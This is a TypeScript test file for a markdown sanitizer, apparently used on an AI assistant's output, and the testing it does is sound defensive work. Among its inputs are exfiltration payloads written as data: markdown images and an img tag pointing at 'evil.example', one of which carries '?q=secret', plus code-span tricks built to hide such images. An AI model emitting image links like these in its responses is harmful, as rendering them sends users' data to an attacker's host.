import assert from "node:assert/strict";
import { test } from "node:test";
import { safeMarkdown } from "../../../src/assistant/safeMarkdown.ts";

const isHarmless = (markdown: string) => {
  const safe = safeMarkdown(markdown);
  assert.doesNotMatch(safe, /!\[|<[a-z]/i, markdown);
};

test("an image is not fetched", () => {
  isHarmless("a ![x](https://evil.example/?q=secret) b");
  isHarmless("![x][ref]\n\n[ref]: https://evil.example");
});

test("raw HTML becomes visible text", () => {
  isHarmless('<img src="https://evil.example">');
  isHarmless("text <b>bold</b>");
});

test("what only looks like code hides nothing", () => {
  for (const markdown of [
    "` ![x](u) ``",
    "\\` ![x](u) `",
    "a `\n![x](u)` b",
    "``` a`\n![x](u)",
    "- ```\n\n![x](u)",
    "  ```\n![x](u)",
    "```\rcode\r```\r![x](u)",
  ]) {
    isHarmless(markdown);
  }
});

test("fenced code keeps its characters", () => {
  const markdown = "Text\n\n```ts\nif (a < b) {} // ![x](y)\n```\n\n~~~html\n<b>\n~~~";
  assert.equal(safeMarkdown(markdown), markdown);
});

test("text after a fence is made safe again, and a fence inside a longer one does not end it", () => {
  const safe = safeMarkdown("````\n```\n<code>\n````\n<b>");
  assert.equal(safe, "````\n```\n<code>\n````\n<\u2060b>");
});

test("a formula's mark is broken", () => {
  assert.equal(safeMarkdown("$$x$$"), "$\u2060$x$\u2060$");
});
